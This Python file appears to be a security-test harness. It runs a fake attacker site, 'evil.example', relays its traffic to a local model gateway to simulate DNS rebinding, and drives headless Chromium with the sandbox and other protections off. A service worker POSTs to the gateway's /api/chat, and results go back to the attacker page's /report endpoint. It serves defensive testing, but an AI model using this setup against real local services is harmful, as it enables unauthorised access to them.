"""A headless Chromium, and the site of an attacker whose name leads to the gateway as well."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from threading import Thread
from typing import Any
from urllib.parse import urlencode, urlsplit

EVIL = "evil.example"
PAGE = (Path(__file__).parent / "attacks.html").read_bytes()
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
REPORT_SECONDS = 60.0
_WORKER = b"""
const [gateway] = location.search.slice(1).split("&").map(decodeURIComponent);
const body = '{"model":"m","stream":false,"messages":[{"role":"user","content":"hi"}]}';
addEventListener("install", (event) => event.waitUntil(
  fetch(gateway + "/api/chat", { method: "POST", mode: "no-cors", body }).catch(() => 0)));
"""


class Site(BaseHTTPRequestHandler):
    """Serves the page and takes its report. Every other path is the gateway's.

    That is what DNS rebinding comes to: the browser goes on using the attacker's name, and its
    bytes arrive at the gateway, from this machine.
    """

    protocol_version = "HTTP/1.1"
    reports: Queue[dict[str, Any]]
    gateway: tuple[str, int]

    def do_GET(self) -> None:
        path = urlsplit(self.path).path
        if path == "/":
            self._answer(PAGE, "text/html")
        elif path == "/worker.js":
            self._answer(_WORKER, "text/javascript")
        else:
            self._relay(b"")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        if self.path == "/report":
            self._answer(b"", "text/plain")
            self.reports.put(json.loads(body))
        else:
            self._relay(body)

    def _answer(self, body: bytes, content_type: str) -> None:
        self.send_response(200)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _relay(self, body: bytes) -> None:
        self.close_connection = True
        head = [f"{self.command} {self.path} HTTP/1.1"]
        kept = self.headers.items()
        if "upgrade" not in self.headers:
            kept = [field for field in kept if field[0].lower() != "connection"]
            head.append("Connection: close")
        head += [f"{name}: {value}" for name, value in kept]
        with closing(socket.create_connection(self.gateway)) as there:
            there.sendall("\r\n".join([*head, "", ""]).encode() + body)
            back = Thread(target=_copy, args=(self.connection, there), daemon=True)
            back.start()
            _copy(there, self.connection)

    def log_message(self, format: str, *args: object) -> None:
        pass


def _copy(source: socket.socket, target: socket.socket) -> None:
    try:
        while data := source.recv(65536):
            target.sendall(data)
    except OSError:
        pass


def attack(folder: Path, gateway: tuple[str, int], name: str, target: str) -> dict[str, str]:
    """Let a browser open the attacker's page under a name; give what each attack could read.

    `target` is the name by which the page reaches the gateway.
    """
    reports: Queue[dict[str, Any]] = Queue()
    handler = type("Attacking", (Site,), {"reports": reports, "gateway": gateway})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as site:
        Thread(target=site.serve_forever, daemon=True).start()
        origin = f"http://{name}:{site.server_port}"
        query = urlencode({"gateway": f"http://{target}:{gateway[1]}"})
        try:
            return browse(folder, origin, f"{origin}/?{query}", reports)
        finally:
            site.shutdown()


def browse(folder: Path, origin: str, url: str, reports: Queue[dict[str, Any]]) -> dict[str, str]:
    """Open a page of an origin in a browser, and return its report."""
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
    # Popups are allowed and the origin counts as secure: the attacker may have all that helps.
    flags += ["--disable-popup-blocking", f"--unsafely-treat-insecure-origin-as-secure={origin}"]
    flags += [f"--host-resolver-rules=MAP {EVIL} 127.0.0.1", "--no-first-run"]
    command = [str(CHROMIUM), *flags, f"--user-data-dir={folder}", "--remote-debugging-port=0"]
    with subprocess.Popen(
        [*command, url],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "HOME": str(folder)},
    ) as browser:
        try:
            return reports.get(timeout=REPORT_SECONDS)
        finally:
            browser.kill()
